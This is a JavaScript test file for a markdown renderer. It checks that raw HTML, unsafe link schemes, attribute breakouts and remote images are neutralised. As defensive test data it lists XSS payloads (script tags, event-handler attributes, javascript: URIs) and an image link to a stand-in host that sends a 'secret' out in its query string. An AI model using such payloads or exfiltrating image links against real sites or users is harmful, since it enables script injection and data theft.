/** Before the sanitiser: our renderer alone must already let nothing through. The sanitiser is tested in the browser. */
import assert from "node:assert/strict"
import { test } from "node:test"

import { htmlOf } from "../../static/js/lib/markdown.js"

test("raw HTML is shown as text", () => {
  for (const attack of ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "a <svg onload=alert(1)> b", "<iframe src=//evil.example></iframe>", "<b onclick=alert(1)>x</b>"]) {
    assert.doesNotMatch(htmlOf(attack), /<(script|img|svg|iframe|b)\b/, attack)
  }
})

test("a few plain tags without attributes are allowed", () => {
  assert.match(htmlOf("H<sub>2</sub>O<br>x"), /H<sub>2<\/sub>O<br>x/)
})

test("links lead to web and mail addresses only, in a new tab", () => {
  for (const address of ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x", "//evil.example", "/admin/", "&#106;avascript:alert(1)"]) {
    assert.doesNotMatch(htmlOf(`[x](${address})`), /href/, address)
  }
  assert.match(htmlOf("[x](https://example.org)"), /<a href="https:\/\/example\.org" target="_blank" rel="noopener noreferrer nofollow">x<\/a>/)
})

test("an address cannot break out of its attribute", () => {
  assert.doesNotMatch(htmlOf('[x](<https://example.org/"onmouseover="alert(1)>)'), /"onmouseover/)
})

test("an answer that is data is shown as data, while it comes too", () => {
  for (const data of ['{"dates": ["*2026*"]}', '{\n  "emails": ["ann@']) assert.match(htmlOf(data), /^<div class="code">/)
  assert.doesNotMatch(htmlOf("{name} is a placeholder"), /class="code"/)
})

test("images are named, not loaded", () => {
  const html = htmlOf("![A chart](https://evil.example/log?q=secret)")

  assert.doesNotMatch(html, /<img/)
  assert.match(html, /Image: A chart · evil\.example/)
})

test("code keeps its signs, says its language and can be copied", () => {
  const html = htmlOf("```js\nif (a < b) alert('x')\n```")

  assert.match(html, /<span>js<\/span>/)
  assert.match(html, /data-copy/)
  assert.match(html, /a &#60; b/)
})

test("a language cannot smuggle HTML in", () => {
  assert.doesNotMatch(htmlOf('```<img/src=x>\nx\n```'), /<img/)
})

test("tables can be scrolled and keep their alignment", () => {
  const html = htmlOf("| a | b |\n|---|--:|\n| 1 | 2 |")

  assert.match(html, /<div class="table" role="region"/)
  assert.match(html, /<td align="right">2<\/td>/)
})
